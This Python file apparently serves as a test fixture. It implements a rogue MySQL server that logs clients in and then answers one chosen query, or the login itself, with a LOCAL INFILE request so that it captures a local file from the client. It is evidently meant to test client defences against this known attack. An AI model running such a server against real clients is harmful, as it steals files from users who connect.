"""A MySQL server that wants its clients' files.

It speaks as much of the protocol as a login and the answers of our session need; at one point it answers with a
request for a local file instead (protocol's LOCAL INFILE request: 0xFB and a path), and keeps what it gets.
"""

import contextlib
import socket
import struct
import threading
from dataclasses import dataclass, field
from io import BufferedReader
from typing import Self

# Of the server: long passwords and flags, with database, protocol 4.1, transactions, local files, secure connection,
# several results, plug-ins for the login.
_CAPABILITIES = 0x0008_A28D | 0x0002_0000
_COM_QUIT, _COM_QUERY = 1, 3
_MORE_RESULTS = 8


@dataclass
class RogueMySQL:
    """Answers honestly but for one answer: to the `position`-th query (from 0), or to the login (-1).

    `before`: an OK that promises another result goes before the request. `queries` and `stolen` are for the test.
    """

    file: str
    position: int | None
    before: bool = False
    queries: list[bytes] = field(default_factory=list)
    asked: bool = False
    stolen: bytes = b""

    def __enter__(self) -> Self:
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.port = int(self._listener.getsockname()[1])
        self._connections: list[socket.socket] = []
        self._threads = [threading.Thread(target=self._serve, daemon=True)]
        self._threads[0].start()
        return self

    def __exit__(self, *args: object) -> None:
        self._listener.shutdown(socket.SHUT_RDWR)
        self._listener.close()
        self._threads[0].join(10)
        for connection in self._connections:
            with contextlib.suppress(OSError):
                connection.shutdown(socket.SHUT_RD)  # what has come is still read, and then it ends
        for thread in self._threads:
            thread.join(10)

    def _serve(self) -> None:
        while True:
            try:
                connection, _address = self._listener.accept()
            except OSError:
                return
            self._connections.append(connection)
            self._threads.append(threading.Thread(target=self._serve_one, args=[connection], daemon=True))
            self._threads[-1].start()

    def _serve_one(self, connection: socket.socket) -> None:
        with connection, connection.makefile("rb") as incoming:
            try:
                self._talk(_Line(connection, incoming))
            except (OSError, EOFError):
                pass  # the client hung up, as it should

    def _talk(self, line: "_Line") -> None:
        line.send(0, _greeting())
        self.capabilities = struct.unpack("<I", line.receive()[:4])[0]
        if self.position == -1:
            self._steal(line)
        line.send(line.sequence, _ok())
        while True:
            command = line.receive()
            if command[:1] == bytes([_COM_QUIT]):
                return
            if command[:1] == bytes([_COM_QUERY]):
                self.queries.append(command[1:])
                if self.position == len(self.queries) - 1:
                    self._steal(line)
                    continue
            self._answer(line, command[1:])

    def _answer(self, line: "_Line", sql: bytes) -> None:
        if b"SELECT" not in sql.upper() and b"SHOW" not in sql.upper():
            line.send(line.sequence, _ok())
            return
        value = b"STRICT_TRANS_TABLES" if b"sql_mode" in sql else b"5.7.0-rogue"
        for packet in (b"\x01", _column(), _eof(), bytes([len(value)]) + value, _eof()):
            line.send(line.sequence, packet)

    def _steal(self, line: "_Line") -> None:
        self.asked = True
        if self.before:
            line.send(line.sequence, _ok(_MORE_RESULTS))
        line.send(line.sequence, b"\xfb" + self.file.encode())
        while packet := line.receive():  # an empty packet ends a file, also one that is not sent
            if line.sequence == 1:  # a command: it goes on without having answered
                raise EOFError
            self.stolen += packet
        line.send(line.sequence, _ok())


class _Line:
    """Packets of the protocol: three bytes of length, one that counts."""

    def __init__(self, connection: socket.socket, incoming: BufferedReader) -> None:
        self._connection, self._incoming = connection, incoming
        self.sequence = 0

    def send(self, sequence: int, payload: bytes) -> None:
        self._connection.sendall(len(payload).to_bytes(3, "little") + bytes([sequence]) + payload)
        self.sequence = (sequence + 1) % 256

    def receive(self) -> bytes:
        header = self._read(4)
        self.sequence = (header[3] + 1) % 256
        return self._read(int.from_bytes(header[:3], "little"))

    def _read(self, count: int) -> bytes:
        found = self._incoming.read(count)
        if len(found) < count:
            raise EOFError
        return found


def _greeting() -> bytes:
    capabilities = struct.pack("<I", _CAPABILITIES)
    return b"".join(
        (
            b"\x0a5.7.0-rogue\0",
            struct.pack("<I", 1),
            b"saltsalt\0",
            capabilities[:2],
            b"\x2d\x02\x00",  # utf8mb4, autocommit
            capabilities[2:],
            b"\x15" + bytes(10),
            b"saltsaltsalt\0mysql_native_password\0",
        )
    )


def _ok(flags: int = 0) -> bytes:
    return b"\0\0\0" + struct.pack("<HH", 2 | flags, 0)


def _eof() -> bytes:
    return b"\xfe" + struct.pack("<HH", 0, 2)


def _column() -> bytes:
    names = b"\x03def\0\0\0\x01v\0"
    return names + b"\x0c" + struct.pack("<HIBHB", 45, 1020, 253, 0, 0) + b"\0\0"
